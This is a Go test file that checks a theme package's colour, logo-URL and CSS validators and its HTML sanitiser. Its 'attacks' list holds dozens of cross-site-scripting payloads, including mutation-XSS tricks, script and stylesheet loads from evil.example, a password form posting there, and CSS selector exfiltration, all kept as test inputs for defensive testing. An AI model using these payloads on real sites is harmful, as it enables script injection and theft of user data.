package theme

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	parser "golang.org/x/net/html"
)

func TestCheckColour(t *testing.T) {
	t.Parallel()
	for _, good := range []string{
		"#fff", "#FFFA", "#1d4ed8", "#1d4ed8cc", "navy", "RebeccaPurple", "transparent", "rgb(1,2,3)", "rgb(29 78 216 / 90%)",
		"rgba(1, 2, 3, 0.5)", "hsl(224, 76%, 48%)", "hsl(120deg 75% 25% / 60%)",
	} {
		if err := CheckColour(good); err != nil {
			t.Errorf("%s: got %v, want no error", good, err)
		}
	}
	for _, invalid := range []string{
		"", "#12", "#12345", "#ggg", "blue;color:red", "red}body{display:none", "url(x)", "expression(alert(1))", "var(--x)", "rgb(1,2)",
		"rgb(1,2,3", "red /*", "inherit", "\\72 ed", "javascript:x", "#fff\n",
	} {
		if CheckColour(invalid) == nil {
			t.Errorf("got %q accepted as a colour, want an error", invalid)
		}
	}
}

func TestCheckLogo(t *testing.T) {
	t.Parallel()
	for _, good := range []string{
		"https://example.com/logo.svg", "https://cdn.example.com:8443/a/b.png?v=2", "/package/1/asset/logo.png?v=ab",
	} {
		if err := CheckLogo(good); err != nil {
			t.Errorf("%s: got %v, want no error", good, err)
		}
	}
	for _, invalid := range []string{"logo.png", "http://example.com/logo.png", "//example.com/logo.png", "/\\example.com/logo.png",
		"\\\\example.com", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:image/svg+xml,<svg onload=alert(1)>",
		"https://user:password@example.com/x", "https://", "https:///x", "ftp://example.com/x", "https://example.com/x\"onerror=alert(1)",
		"https://example.com/a b", "https://example.com/%zz", "/x)'"} {
		if CheckLogo(invalid) == nil {
			t.Errorf("got %q accepted as a logo's address, want an error", invalid)
		}
	}
}

// attacks are scripts in HTML, in notations that got past other filters.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script>`,
	"<script\x00>alert(1)</script>",
	`<img src=x onerror=alert(1)>`,
	`<img src="x" OnErRoR="alert(1)">`,
	`<img src=x onerror
=alert(1)>`,
	`<img/src=x/onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img src="jav&#x09;ascript:alert(1)">`,
	`<img src=" &#14; javascript:alert(1)">`,
	`<img src="data:text/html;base64,PHNjcmlwdD4=">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x>`,
	`<svg><a xlink:href="javascript:alert(1)">x</a></svg>`,
	`<svg><use href="data:image/svg+xml,x">`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="javascript:alert(1)">`,
	`<embed src="javascript:alert(1)">`,
	`<applet code=x>`,
	`<frameset><frame src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JAVASCRIPT&colon;alert(1)">x</a>`,
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>`,
	`<a href="vbscript:x">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<body onload=alert(1)>`,
	`<div onmouseover="alert(1)">x</div>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="position:fixed;inset:0">x</div>`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<form action="https://evil.example"><input name=password></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<isindex action=javascript:alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)">`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<keygen onfocus=alert(1)>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<title><script>alert(1)</script></title>`,
	`<plaintext><script>alert(1)`,
	`"><script>alert(1)</script>`,
	`';alert(1)//`,
	`<<script>alert(1)//<</script>`,
	`<img """><script>alert(1)</script>">`,
	`<p class="x onclick=alert(1)">x</p>`,
	`<p class='"><script>alert(1)</script>'>x</p>`,
	`<a href="https://example.com" target="_blank" onclick="x">x</a>`,
	// what loads something from another host
	`<img src="https://evil.example/x.png">`,
	`<img src="//evil.example/x.png">`,
	`<img src="/\evil.example/x.png">`,
	`<img src="/%5cevil.example/x.png">`,
	`<img src="/&#92;evil.example/x.png">`,
	`<img src=" https://evil.example/x.png">`,
	"<img src=\"/\t/evil.example/x.png\">",
	`<img src="/x.png" srcset="https://evil.example/x.png 2x">`,
	`<img src="/x.png" lowsrc="https://evil.example/x.png" longdesc="https://evil.example">`,
	`<picture><source srcset="https://evil.example/x.png"></picture>`,
	`<table background="https://evil.example/x.png"><tr><td background="https://evil.example/x.png">x</td></tr></table>`,
	`<blockquote cite="https://evil.example">x</blockquote><q cite="https://evil.example">x</q><del cite="https://evil.example">x</del>`,
	`<a href="https://example.com" ping="https://evil.example">x</a>`,
	`<link rel="preconnect" href="https://evil.example">`,
	`<track src="https://evil.example">`,
	`<body background="https://evil.example/x.png">`,
	// what a panel's scripts would find in the place of their own
	`<p id="app">x</p>`,
	`<a id="config" name="config" href="https://example.com">x</a>`,
	`<img name="getElementById" src="/x.png">`,
	`<map name="m"><area href="https://example.com"></map>`,
	`<h1 ID=root>x</h1>`,
	`<p slot="x" is="x-y" itemid="x" data-bind="x" aria-owns="x">x</p>`,
}

var quoted = regexp.MustCompile(`"[^"]*"`)

func TestHTML(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		left := strings.ToLower(HTML(attack))
		for tag := range strings.SplitSeq(left, "<") {
			tag, _, inTag := strings.Cut(tag, ">")
			if !inTag {
				continue
			}
			name, _, _ := strings.Cut(strings.Trim(tag, "/"), " ")
			for _, acts := range []string{
				"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style", "link", "meta", "base", "form", "input",
				"button", "template", "noscript", "select", "textarea", "video", "audio",
			} {
				if name == acts {
					t.Errorf("%s: got %s, want no element %s", attack, left, acts)
				}
			}
			for _, scheme := range []string{"javascript", "vbscript", "data:"} {
				if strings.Contains(tag, scheme) {
					t.Errorf("%s: got %s, want no scheme %s", attack, left, scheme)
				}
			}
			for _, attribute := range []string{" on", "/on", "style", "srcdoc", "target"} {
				if strings.Contains(quoted.ReplaceAllString(tag, ""), attribute) {
					t.Errorf("%s: got %s, want no attribute %s", attack, left, attribute)
				}
			}
		}
		if twice := HTML(HTML(attack)); twice != HTML(attack) {
			t.Errorf("%s: got %s the second time, want %s", attack, twice, HTML(attack))
		}
	}
	for _, attack := range attacks {
		doc, err := parser.Parse(strings.NewReader(HTML(attack)))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			for _, a := range n.Attr {
				loads := a.Key != "href" && (strings.Contains(a.Val, "//") || strings.Contains(a.Val, "evil"))
				if loads || !slices.Contains([]string{"alt", "class", "href", "open", "rel", "src", "title"}, a.Key) {
					t.Errorf("%s: got %s=%q in %s, want it removed", attack, a.Key, a.Val, HTML(attack))
				}
			}
		}
	}
	if got, want := HTML(
		`<img src="/package/1/asset/x.png?v=2" alt="x" width="9">`,
	), `<img src="/package/1/asset/x.png?v=2" alt="x" width="9">`; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	const good = `<p class="note">Call <a href="mailto:help@example.com" rel="nofollow">us</a>, <b>day</b> and <i>night</i>.</p>`
	if left := HTML(good); left != good {
		t.Errorf("got %s, want %s", left, good)
	}
}

func TestCheckCSS(t *testing.T) {
	t.Parallel()
	for _, good := range []string{"", "a { color: red }", "/* mine */ .nav > a:hover, #x::before { content: 'é'; background: " +
		"linear-gradient(90deg, rgb(1 2 3), var(--x)) }",
		"@media (max-width: 600px) { .a { width: calc(100% - 2em) } }", "@keyframes spin { to { transform: rotate(360deg) } }",
		":root { --main: #fff }", "a[href^='https'] { color: navy !important }"} {
		if err := CheckCSS(good); err != nil {
			t.Errorf("%s: got %v, want no error", good, err)
		}
	}
	for _, invalid := range []string{
		`@import "https://evil.example/x.css";`, `@IMPORT url(x);`, `@charset "utf-7";`, `@font-face { font-family: x; src: local(x) }`, `@namespace x "y";`, `@document url(x) {}`,
		`a { background: url(https://evil.example/?a) }`, `a { background: URL( "x" ) }`, `input[value^=a] { background-image: url(//evil.example/a) }`, `a { background: image-set("x.png" 1x) }`, `a { background: -webkit-image-set("x" 1x) }`, `a { background: src("x") }`,
		`a { width: expression(alert(1)) }`, `a { behavior: none }`, `a { -moz-binding: none }`, `a { BEHAVIOR: none }`, `a { background: element(#x) }`, `a { color: attr(data-x) }`,
		`</style><script>alert(1)</script>`, `<!-- a {} -->`, `a { } --> `, `a { content: "</style>" }`, `/* </style> */`,
		`@\69mport "x";`, `a { background: \75rl(x) }`, `a { content: "\3c script" }`,
		`a { color: red`, `} body { display: none`, `a { color: red } }`, `a[x { }`, `a { content: "x`, "a { content: 'x\n' }", `/* open`, `a { color: rgb(1,2,3 }`, `a { background: url(x`,
	} {
		if CheckCSS(invalid) == nil {
			t.Errorf("got %s accepted in a style sheet, want an error", invalid)
		}
	}
}
